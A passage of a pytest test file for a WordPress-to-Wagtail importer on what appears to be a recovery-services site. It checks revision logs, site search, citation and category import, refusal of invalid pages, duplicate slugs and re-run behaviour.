    assert wagtails["log"] == ["wagtail.create", "wagtail.edit", "wagtail.publish"]
    for page in (approach, family, article):
        state = page_state(page)
        assert state["url_path"] == f"{page.slug}/"
        assert state | {"url_path": ""} == wagtails | {"url_path": ""}, page.slug
        assert client.get(page.url).status_code == 200
    assert family.first_published_at == datetime(2019, 3, 4, 14, 15, tzinfo=UTC)
    assert family.last_published_at == datetime(2020, 5, 6, 10, 0, tzinfo=UTC)
    assert list(family.latest_revision.as_object().body.raw_data) == list(family.body.raw_data)
    # Searchable, and its link to its parent in Wagtail's reference index.
    assert family.pk in {p.pk for p in Page.objects.live().search("Family program")}
    assert family.pk in {int(r.object_id) for r in ReferenceIndex.get_references_to(approach)}

    # WordPress renames a page: logged as Wagtail logs a rename made here.
    renamed = item(
        132,
        "Hope after a relapse",
        post_type="post",
        slug="hope-after-relapse",
        modified_gmt="2021-02-03 04:05:06",
    )
    run_import(tmp_path, *items[:2], renamed)
    made[1].title = "Made here, renamed"
    made[1].save_revision(log_action=True).publish()
    assert page_state(article)["log"] == page_state(made[1])["log"] == [
        "wagtail.create", "wagtail.edit", "wagtail.publish",
        "wagtail.edit", "wagtail.rename", "wagtail.publish",
    ]  # fmt: skip
    assert page_state(article) | {"url_path": ""} == page_state(made[1]) | {"url_path": ""}


# Found by the site's search ---------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.skipif(
    connection.vendor != "postgresql", reason="The site's search is PostgreSQL full-text search."
)
def test_imported_pages_are_found_by_the_sites_search(
    demo, tmp_path, client, django_capture_on_commit_callbacks
):
    """The import indexes what it wrote once, at its end: the site's /search/ finds a page and an
    article by words only in their bodies, and a re-run's changes replace the old words (the
    searches made before it are forgotten when it commits, as the pages cached are)."""

    def found(word):
        return texts_of(client.get("/search/", {"q": word}), "ol.card-list .card__title a")

    def section(word):
        return f"<h2>What to expect</h2><p>Every visit starts with {word} and a cup of tea.</p>"

    first = [
        item(140, "Visiting days", slug="visiting-days", content=section("kohlrabi")),
        item(141, "A calm first week", post_type="post", content=section("marzipan")),
    ]
    run_import(tmp_path, *first)
    assert found("kohlrabi") == ["Visiting days"]
    assert found("marzipan") == ["A calm first week"]

    changed = item(
        140,
        "Visiting days",
        slug="visiting-days",
        content=section("rutabaga"),
        modified_gmt="2021-01-01 00:00:00",
    )
    with django_capture_on_commit_callbacks(execute=True):  # the test's transaction never commits
        run_import(tmp_path, changed, first[1])
    assert found("rutabaga") == ["Visiting days"]
    assert found("kohlrabi") == []


@pytest.mark.django_db
def test_a_new_pages_citations_and_categories_and_a_reruns_changes_to_them(demo, tmp_path):
    """A page the import creates has its sources as citations in the list's order, each marker
    pointing at its own; a re-run that changes WordPress's list and categories replaces them."""

    def post(sources, categories, modified_gmt="2020-05-06 10:00:00"):
        listed = "".join(
            f'<li>{s}. <a href="https://{s.lower()}.example/">{s} study</a></li>' for s in sources
        )
        markers = "".join(f"<sup>{n}</sup>" for n in range(1, len(sources) + 1))
        return item(
            150,
            "What the research says",
            post_type="post",
            content=f"<h2>Findings</h2><p>Several studies agree.{markers}</p>"
            f"<h3>Sources</h3><ol>{listed}</ol>",
            categories=[("category", slug, slug.title()) for slug in categories],
            modified_gmt=modified_gmt,
        )

    run_import(tmp_path, post(["NIDA", "SAMHSA", "CDC"], ["family", "recovery"]))
    article = ArticlePage.objects.get(slug="what-the-research-says")
    citations = list(article.citations.order_by("sort_order"))
    assert [(c.source, c.url) for c in citations] == [
        ("NIDA", "https://nida.example/"),
        ("SAMHSA", "https://samhsa.example/"),
        ("CDC", "https://cdc.example/"),
    ]
    text = article.body[0].value["text"].source
    assert [text.index(f'<citation id="{c.uuid}">') for c in citations] == sorted(
        text.index(f'<citation id="{c.uuid}">') for c in citations
    )
    assert sorted(c.name for c in article.categories.all()) == ["Family", "Recovery"]
    assert article.latest_revision.content["citations"][0]["source"] == "NIDA"

    run_import(tmp_path, post(["CDC", "WHO"], ["news"], modified_gmt="2021-01-01 00:00:00"))
    article = ArticlePage.objects.get(pk=article.pk)
    assert [c.source for c in article.citations.order_by("sort_order")] == ["CDC", "WHO"]
    assert [c.name for c in article.categories.all()] == ["News"]


@pytest.mark.django_db
def test_a_page_wagtail_refuses_is_reported_and_the_rest_goes_on(demo, tmp_path, monkeypatch):
    """A page whose fields Wagtail's validation refuses (here a date no export can hold) is not
    published and nothing of it is written; the report says why, and the others are imported."""
    from wordpress import importer

    original = importer.Importer.article_fields

    def bad_date(self, page, item_):
        original(self, page, item_)
        if item_.wp_id == 160:
            page.date = "2021-02-31"

    monkeypatch.setattr(importer.Importer, "article_fields", bad_date)
    report, _ = run_import(
        tmp_path,
        item(160, "Refused", post_type="post", content="<p>Words.</p>", meta=SOURCE_META),
        item(161, "Welcome", post_type="post", content="<p>Glad you are here.</p>"),
    )
    assert report["done"]["not imported"] == {"article (publish)": 1}
    [problem] = [p for p in report["problems"] if p["id"] == 160]
    assert problem["problem"].startswith("not imported: the page was refused (date: ")
    refused = ArticlePage.objects.get(slug="refused")
    assert not refused.live and refused.latest_revision is None
    assert not PageRating.objects.filter(page=refused).exists()
    assert ArticlePage.objects.get(slug="welcome").live


@pytest.mark.django_db
def test_two_wordpress_pages_with_one_address_become_two_pages(demo, tmp_path):
    """WordPress let two pages share a slug (one in the trash once, say): the second is not
    taken for the page the first became, but gets an address of its own, reported, and a re-run
    finds each again by its WordPress ID."""
    items = [
        item(170, "Careers", slug="careers", content="<p>We are hiring.</p>"),
        item(171, "Careers (old)", slug="careers", content="<p>An older page.</p>"),
    ]
    report, _ = run_import(tmp_path, *items)
    made = StandardPage.objects.filter(title__startswith="Careers").order_by("pk")
    assert [(p.title, p.slug) for p in made] == [
        ("Careers", "careers"),
        ("Careers (old)", "careers-2"),
    ]
    assert [(c["id"], c["to"]) for c in report["slugs_changed"]] == [(171, "careers-2")]
    pages = Page.objects.count()
    report, _ = run_import(tmp_path, *items)
    assert Page.objects.count() == pages
    assert report["done"] == {"unchanged": {"standard (publish)": 2}}


@pytest.mark.django_db
def test_an_adopted_page_never_saved_as_a_revision_keeps_no_old_citations(demo, tmp_path):
    """A page made here without a revision (as a shell or a fixture makes one) is adopted at its
    address like any other: WordPress's sources replace its citations, none are added twice."""
    from pages.models import Citation

    home = HomePage.objects.get()
    page = home.add_child(instance=StandardPage(title="Insurance help", slug="insurance-help"))
    Citation.objects.create(page=page, source="Old", title="Old source", url="https://old.example/")
    assert page.latest_revision_id is None
    content = (
        "<h2>Paying for care</h2><p>Most plans cover it.<sup>1</sup></p>"
        '<h3>Sources</h3><ol><li>CMS. <a href="https://cms.example/">Coverage</a></li></ol>'
    )
    run_import(tmp_path, item(180, "Insurance help", slug="insurance-help", content=content))
    page = StandardPage.objects.get(pk=page.pk)
    assert page.live
    assert [c.source for c in page.citations.all()] == ["CMS"]
